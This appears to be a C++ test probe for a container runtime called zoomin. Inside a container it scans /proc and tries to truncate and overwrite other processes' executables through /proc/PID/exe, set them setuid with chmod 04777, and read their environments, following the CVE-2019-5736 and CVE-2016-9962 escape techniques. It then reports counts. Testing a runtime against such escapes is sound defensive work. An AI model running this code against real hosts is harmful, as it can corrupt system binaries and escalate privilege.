// SPDX-License-Identifier: MIT
// attack: until the file /tmp/stop exists, looks for processes that run neither this
// program nor busybox. Tries to write to their executables, as in CVE-2019-5736, and to
// read their environment, as in CVE-2016-9962. It is linked statically;
// protection_test.cpp starts it in containers, where it can reach only a copy of the
// runtime's program.
//
// At the end it prints counts of executables: refused=N (couldn't be opened), reached=N
// (could be opened), nonempty=N, written=N; the results change=… of a chmod(2) and
// write=… of a write(2) to the last one; and counts of processes: mapped=N (had a file
// named zoomin in their memory), environments=N (their environment could be read),
// privileged=N (had a capability that this process lacks), other_root=N (had another root
// directory), descriptors=N (ran another program and had descriptors above 3).
#include <dirent.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include "common/names.hpp"

namespace {

struct counts {
  int refused = 0;
  int reached = 0;
  int nonempty = 0;
  int mapped = 0;
  int written = 0;
  int environments = 0;
  int privileged = 0;
  int other_root = 0;
  int descriptors = 0;
  std::string change = "none", write = "none";
} totals;

bool same_file(const struct stat& info, const char* path) {
  struct stat other {};
  return ::stat(path, &other) == 0 && info.st_dev == other.st_dev &&
         info.st_ino == other.st_ino;
}

std::string result_of(long result) {
  if (result == -1) return zoomin::error_name(errno);
  ++totals.written;
  return "ok";
}

long write_a_byte(const std::string& path) {
  const int program = ::open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (program < 0) return -1;
  const auto wrote = ::write(program, "x", 1);
  const int number = errno;
  ::close(program);
  errno = number;
  return wrote;
}

void write_to(int program) {
  const std::string path = "/proc/self/fd/" + std::to_string(program);
  if (::chmod(path.c_str(), 04777) == 0)
    totals.change = "ok";
  else
    totals.change = zoomin::error_name(errno);
  totals.write = result_of(write_a_byte(path));
}

// Compares sizes, since the busybox of a container next to this one is another file.
bool is_busybox(const struct stat& info) {
  struct stat ours {};
  return ::stat("/bin/busybox", &ours) == 0 && info.st_size == ours.st_size;
}

bool maps_program(const std::string& process) {
  std::ifstream lines(process + "/maps");
  for (std::string line; std::getline(lines, line);)
    if (line.ends_with("/zoomin")) return true;
  return false;
}

void read_environment(const std::string& process) {
  const int environment = ::open((process + "/environ").c_str(), O_RDONLY | O_CLOEXEC);
  if (environment < 0) return;
  char character = 0;
  const bool got = ::read(environment, &character, 1) > 0;
  ::close(environment);
  // Doesn't count a process that has meanwhile become the command, whose environment is
  // the container's.
  const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
  if (program >= 0) ::close(program);
  if (got && program < 0 && errno != ENOENT && errno != ESRCH) ++totals.environments;
}

unsigned long long capabilities_of(const std::string& process) {
  std::ifstream lines(process + "/status");
  for (std::string line; std::getline(lines, line);)
    if (line.starts_with("CapPrm:")) return std::stoull(line.substr(7), nullptr, 16);
  return 0;
}

int descriptors_of(const std::string& process) {
  DIR* result = ::opendir((process + "/fd").c_str());
  if (result == nullptr) return 0;
  int count = 0;
  while (const dirent* found = ::readdir(result))
    if (std::atoi(found->d_name) > 3) ++count;
  ::closedir(result);
  return count;
}

void compare(const std::string& process) {
  static const auto ours = capabilities_of("/proc/self");
  if ((capabilities_of(process) & ~ours) != 0) ++totals.privileged;
  struct stat root {};
  if (::stat((process + "/root").c_str(), &root) == 0 && !same_file(root, "/"))
    ++totals.other_root;
}

void attack_process(const std::string& process) {
  compare(process);
  const int program = ::open((process + "/exe").c_str(), O_PATH | O_CLOEXEC);
  if (program < 0) {
    if (errno != EACCES && errno != EPERM) return;  // the process has ended
    ++totals.refused;
    return read_environment(process);
  }
  struct stat info {};
  ::fstat(program, &info);
  if (!same_file(info, "/proc/self/exe") && !is_busybox(info)) {
    ++totals.reached;
    if (info.st_size > 0) ++totals.nonempty;
    if (maps_program(process)) ++totals.mapped;
    if (descriptors_of(process) > 0) ++totals.descriptors;
    write_to(program);
  }
  ::close(program);
}

void attack_all() {
  DIR* processes = ::opendir("/proc");
  while (const dirent* found = ::readdir(processes))
    if (found->d_name[0] >= '1' && found->d_name[0] <= '9')
      attack_process(std::string("/proc/") + found->d_name);
  ::closedir(processes);
}

}  // namespace

int main() {
  std::printf("ready\n");
  std::fflush(stdout);
  while (::access("/tmp/stop", F_OK) != 0) attack_all();
  std::printf(
      "refused=%d\nreached=%d\nnonempty=%d\nmapped=%d\nwritten=%d\n"
      "environments=%d\nchange=%s\nwrite=%s\n"
      "privileged=%d\nother_root=%d\ndescriptors=%d\n",
      totals.refused, totals.reached, totals.nonempty, totals.mapped, totals.written,
      totals.environments, totals.change.c_str(), totals.write.c_str(), totals.privileged,
      totals.other_root, totals.descriptors);
  return 0;
}
